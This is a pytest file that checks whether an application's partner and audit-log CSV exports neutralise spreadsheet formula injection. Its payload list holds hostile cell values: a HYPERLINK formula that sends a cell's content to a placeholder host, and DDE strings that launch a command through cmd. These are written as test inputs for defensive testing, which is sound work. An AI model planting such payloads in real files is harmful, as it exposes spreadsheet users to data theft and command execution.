"""CSV exports open in a spreadsheet as text, never as formulas (OWASP CSV injection).

Each test reads the exported bytes back with the csv module, as Excel or
LibreOffice split them into cells, and checks the first character of every cell.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from app.core import audit, audit_view
from app.core.partners import ContactInput, PartnerInput, save_partner
from app.core.partners_csv import export_partners_csv, read_partners_csv
from tests.integration.case_file_support import CaseFile
from tests.integration.case_file_support import module_case_file as _module

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?d="&A1;"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "'=1+1",  # already quoted by hand: stays what it was after a round trip
]


@pytest.fixture(scope="module")
def cf(tmp_path_factory: pytest.TempPathFactory) -> Iterator[CaseFile]:
    with _module(tmp_path_factory) as case_file:
        yield case_file


def spreadsheet_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
            assert not cell.lstrip(" \n\u00a0").startswith(FORMULA_STARTS), cell


def test_partner_export_neutralises_every_formula_cell_and_imports_back_unchanged(
    cf: CaseFile,
) -> None:
    # Services and notes keep inner tabs and line breaks; the partner service strips
    # the ends of every field, so a leading tab only survives in the audit test below.
    with cf.session() as s, s.begin():
        for number, payload in enumerate(PAYLOADS):
            line = payload.strip()
            contact = line.replace("|", "/")  # "|" separates the parts of a contact
            save_partner(
                s,
                cf.actor,
                PartnerInput(
                    f"{line} n°{number}",
                    "cpas",
                    services=f"{line}\n{line}",
                    hours=line,
                    notes=payload,
                    city=line,
                    phone="+32 4 384 40 17",
                    contacts=[ContactInput(contact, contact, "+32 4 384 40 18")],
                ),
            )
        data = export_partners_csv(s, cf.actor)
    raw = data.decode("utf-8-sig")
    rows = spreadsheet_cells(raw)
    assert len(rows) == len(PAYLOADS) + 1
    assert_no_formula(rows)
    # Every cell is quoted, so a ";" inside a payload cannot split it.
    assert all(len(row) == len(rows[0]) for row in rows)
    assert raw.startswith('"nom";"secteur";')
    phone = rows[0].index("telephone")
    assert {r[phone] for r in rows[1:]} == {"'+32 4 384 40 17"}
    with cf.session() as s:
        plan = read_partners_csv(s, cf.actor, data)
    assert plan.rejected == [] and plan.update_count == len(PAYLOADS)
    by_name = {item.data.name: item.data for item in plan.items}
    for number, payload in enumerate(PAYLOADS):
        line = payload.strip()
        item = by_name[f"{line} n°{number}"]
        assert (item.services, item.hours, item.city) == (f"{line}\n{line}", line, line)
        assert item.notes == line  # the partner service strips the ends of a note
        assert item.phone == "+32 4 384 40 17"
        contact = line.replace("|", "/")
        assert (item.contacts[0].name, item.contacts[0].function) == (contact, contact)


def test_audit_export_neutralises_every_formula_cell(cf: CaseFile, tmp_path: Path) -> None:
    with cf.session() as s, s.begin():
        for payload in PAYLOADS:
            audit.record(s, cf.actor, "export", object_type=payload, detail=payload)
    target = tmp_path / "journal.csv"
    with cf.session() as s, s.begin():
        audit_view.export_csv(s, cf.actor, audit_view.AuditFilter(), target)
    rows = spreadsheet_cells(target.read_bytes().decode("utf-8"))
    assert rows[0] == list(audit_view.CSV_COLUMNS)
    assert_no_formula(rows)
    detail = rows[0].index("detail")
    written = [r[detail] for r in rows[1:]]
    for payload in PAYLOADS[:-1]:
        assert "'" + payload in written
